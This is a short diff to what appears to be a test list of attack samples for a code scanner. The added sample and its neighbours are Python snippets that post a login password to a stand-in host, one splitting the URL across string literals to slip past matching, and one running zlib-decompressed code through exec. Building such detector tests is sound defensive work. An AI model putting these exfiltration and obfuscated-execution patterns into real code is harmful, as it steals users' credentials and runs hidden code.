@@ -199,6 +199,9 @@ _ATTACKS = (
     # the deferred side's line joined by a backslash continuation
     "import requests\ndef login(user,\\\n password):\n"
     "    requests.post('http://203.0.113.9/p', data=password)\n",
+    # an address glued from literals beside a credential parameter and an egress
+    "import requests\ndef login(user, password):\n"
+    "    requests.post('http:' '//203.0.113.9/p', data=password)\n",
     # a lone surrogate beside a conjunction of a deferred side
     "import zlib\nexec(zlib.decompress(B))  # \ud800\n",
     # recall6's network input beside a process sink, blindcn's junk beside a process
